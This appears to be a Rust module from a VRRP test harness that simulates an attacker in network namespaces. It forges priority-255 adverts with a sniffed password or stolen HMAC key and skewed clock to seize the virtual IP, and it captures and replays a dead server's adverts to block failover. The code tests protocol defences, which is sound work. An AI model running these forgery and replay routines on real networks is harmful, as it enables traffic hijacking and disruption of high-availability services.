//! An attacker on the subnet (host `x`): forges adverts from its own address (priority 255,
//! with the seed's PASS password sniffed off the wire, optionally signed with a stolen key and
//! a skewed clock) and takes the VIP; or replays genuine adverts captured at a server's switch
//! port (a mirror port) after that server died, to keep the backup from taking over.

use crate::netns;
use crate::shell::sh_in;
use crate::topology::{Node, Topology};
use anyhow::{Context, Result, anyhow};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};
use vrrp::auth_hmac::{AntiReplay, HmacConfig, HmacSession, Key, Mode, UnixTime};
use vrrp::{Advert, ChecksumMode, PacketAddrs};

/// The attacker's address on the seed subnet.
pub const ATTACKER_ADDR: &str = "172.16.16.66";

/// What the forger puts in its adverts.
#[derive(Clone, Debug)]
pub struct Forgery {
    /// The advert (the seed's VRID, interval, password and VIP; the attacker's priority).
    pub advert: Advert,
    /// A stolen `auth_hmac` key (id, bytes) and the attacker's clock offset in seconds.
    pub signed: Option<(u8, Vec<u8>, i64)>,
    /// The source address written in the packets (the attacker's own, or a spoofed one).
    pub source: Ipv4Addr,
}

/// Captured frames (time since the first, frame).
type Capture = Arc<Mutex<Vec<(Duration, Vec<u8>)>>>;

/// The attacker's threads; all stop when it is dropped.
#[derive(Default)]
pub struct Attacker {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<Result<()>>>,
    captured: Capture,
}

impl Attacker {
    /// Stops every thread and returns the first error one of them met.
    pub fn finish(&mut self) -> Result<()> {
        self.stop.store(true, Ordering::Relaxed);
        let mut first = Ok(());
        for t in self.threads.drain(..) {
            let r = t
                .join()
                .unwrap_or_else(|_| Err(anyhow!("attacker thread panicked")));
            if first.is_ok() {
                first = r;
            }
        }
        first.context("the attacker failed")
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

fn mac_of(ns: &str) -> Result<[u8; 6]> {
    let out = sh_in(
        ns,
        "cat /sys/class/net/eth0/address 2>/dev/null || ip -o link show eth0",
    )?;
    let text = out
        .split_whitespace()
        .find(|w| w.len() == 17 && w.matches(':').count() == 5)
        .ok_or_else(|| anyhow!("no MAC for eth0 in {ns}"))?;
    let mut mac = [0u8; 6];
    for (m, p) in mac.iter_mut().zip(text.split(':')) {
        *m = u8::from_str_radix(p, 16)?;
    }
    Ok(mac)
}

fn ifindex(ns: &str, ifname: &str) -> Result<u32> {
    let out = sh_in(ns, &format!("ip -o link show {ifname}"))?;
    out.split(':')
        .next()
        .and_then(|i| i.trim().parse().ok())
        .ok_or_else(|| anyhow!("no index for {ifname} in {ns}"))
}

fn mac_bytes(text: &str) -> [u8; 6] {
    let mut mac = [0u8; 6];
    for (m, p) in mac.iter_mut().zip(text.split(':')) {
        *m = u8::from_str_radix(p, 16).unwrap_or(0);
    }
    mac
}

fn frame(dst: [u8; 6], src: [u8; 6], ip: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(14 + ip.len());
    f.extend_from_slice(&dst);
    f.extend_from_slice(&src);
    f.extend_from_slice(&0x0800u16.to_be_bytes());
    f.extend_from_slice(ip);
    f
}

impl Attacker {
    /// Sends forged adverts from `x` to every server (unicast) and the VRRP group, once per
    /// advert interval, after taking the VIP `vip` on its own interface.
    pub fn forge(&mut self, topo: &Topology, x: &Node, forgery: Forgery, vip: &str) -> Result<()> {
        sh_in(&x.ns, &format!("ip addr add {vip}/24 dev eth0"))?;
        let src = forgery.source;
        let our_mac = mac_of(&x.ns)?;
        let index = ifindex(&x.ns, "eth0")?;
        let mut targets: Vec<(Ipv4Addr, [u8; 6])> = Vec::new();
        for s in &topo.servers {
            targets.push((s.addr.parse()?, mac_bytes(&Topology::mac_of(s))));
        }
        targets.push((
            vrrp::packet::MULTICAST_V4,
            [0x01, 0x00, 0x5e, 0x00, 0x00, 0x12],
        ));
        let mut signer = forgery.signed.as_ref().map(|(id, bytes, _)| {
            let cfg = HmacConfig {
                keys: vec![Key {
                    id: *id,
                    bytes: bytes.clone(),
                }],
                active_key: *id,
                mode: Mode::Enforce,
                anti_replay: AntiReplay::Time,
                time_window: 5,
            };
            HmacSession::new(cfg, forgery.advert.version, forgery.advert.vrid, &[])
        });
        let offset = forgery.signed.as_ref().map_or(0, |s| s.2);
        let interval = Duration::from_micros(forgery.advert.interval.micros());
        let stop = self.stop.clone();
        let thread = netns::spawn_in(&x.ns, move || -> Result<()> {
            let sender = rawlink::Sender::new().context("packet socket")?;
            while !stop.load(Ordering::Relaxed) {
                for (dst, mac) in &targets {
                    let addrs = PacketAddrs {
                        src: IpAddr::V4(src),
                        dst: IpAddr::V4(*dst),
                    };
                    let mut msg = forgery.advert.encode(&addrs, ChecksumMode::PseudoHeader)?;
                    if let Some(s) = signer.as_mut() {
                        let now = UnixTime::now();
                        let skewed = UnixTime {
                            secs: now.secs.saturating_add_signed(offset),
                            nanos: now.nanos,
                        };
                        s.sign(skewed, addrs.src, &mut msg);
                    }
                    let ip = vrrp::ip::ipv4_packet(src, *dst, &msg);
                    let _ = sender.send(index, &frame(*mac, our_mac, &ip));
                }
                sleep_unless(&stop, interval);
            }
            Ok(())
        })?;
        self.threads.push(thread.map_err_join());
        Ok(())
    }

    /// Starts recording the VRRP frames that `server` sends, at its switch port.
    pub fn capture(&mut self, topo: &Topology, server: &Node) -> Result<()> {
        let port = ifindex(&topo.switch, &topo.port_of(server))?;
        let from: Ipv4Addr = server.addr.parse()?;
        let (stop, captured) = (self.stop.clone(), self.captured.clone());
        let thread = netns::spawn_in(&topo.switch, move || -> Result<()> {
            let rx = rawlink::Receiver::new().context("packet socket")?;
            rx.set_timeout(Duration::from_millis(100))?;
            let mut buf = vec![0u8; 2048];
            let mut first = None;
            while !stop.load(Ordering::Relaxed) {
                let Ok(arrival) = rx.recv(&mut buf) else {
                    continue;
                };
                let f = &buf[..arrival.len];
                let vrrp_from_server = arrival.ifindex == port
                    && f.len() > 34
                    && f[12..14] == [0x08, 0x00]
                    && f[23] == vrrp::checksum::IPPROTO_VRRP
                    && f[26..30] == from.octets();
                if vrrp_from_server {
                    let t0 = *first.get_or_insert_with(Instant::now);
                    if let Ok(mut c) = captured.lock() {
                        c.push((t0.elapsed(), f.to_vec()));
                    }
                }
            }
            Ok(())
        })?;
        self.threads.push(thread.map_err_join());
        Ok(())
    }

    /// Sends the captured frames again from `x`, at their original pace, over and over.
    pub fn replay(&mut self, x: &Node) -> Result<()> {
        let frames = self.captured.lock().map(|c| c.clone()).unwrap_or_default();
        if frames.is_empty() {
            return Err(anyhow!(
                "nothing captured to replay (a `capture` step must come first)"
            ));
        }
        let our_mac = mac_of(&x.ns)?;
        let index = ifindex(&x.ns, "eth0")?;
        let stop = self.stop.clone();
        let period = frames.last().map_or(Duration::ZERO, |f| f.0) + Duration::from_secs(1);
        let thread = netns::spawn_in(&x.ns, move || -> Result<()> {
            let sender = rawlink::Sender::new().context("packet socket")?;
            while !stop.load(Ordering::Relaxed) {
                let start = Instant::now();
                for (at, f) in &frames {
                    sleep_unless(&stop, at.saturating_sub(start.elapsed()));
                    let mut f = f.clone();
                    f[6..12].copy_from_slice(&our_mac);
                    let _ = sender.send(index, &f);
                }
                sleep_unless(&stop, period.saturating_sub(start.elapsed()));
            }
            Ok(())
        })?;
        self.threads.push(thread.map_err_join());
        Ok(())
    }
}

fn sleep_unless(stop: &AtomicBool, d: Duration) {
    let end = Instant::now() + d;
    while !stop.load(Ordering::Relaxed) && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(10).min(end - Instant::now()));
    }
}

/// `netns::spawn_in` wraps the closure's result; flatten it.
trait FlattenJoin {
    fn map_err_join(self) -> JoinHandle<Result<()>>;
}

impl FlattenJoin for JoinHandle<Result<Result<()>>> {
    fn map_err_join(self) -> JoinHandle<Result<()>> {
        std::thread::spawn(move || match self.join() {
            Ok(Ok(inner)) => inner,
            Ok(Err(e)) => Err(e),
            Err(_) => Err(anyhow!("attacker thread panicked")),
        })
    }
}
